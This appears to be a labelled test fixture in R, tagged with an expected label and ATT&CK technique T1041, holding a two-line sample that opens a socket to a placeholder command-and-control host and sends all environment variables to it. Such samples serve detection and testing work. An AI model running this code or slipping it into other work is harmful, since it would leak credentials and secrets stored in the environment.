# expect: environment-sent-away | source: T1041
con <- socketConnection("c2.example.invalid", 443)
writeLines(paste(names(Sys.getenv()), Sys.getenv()), con)
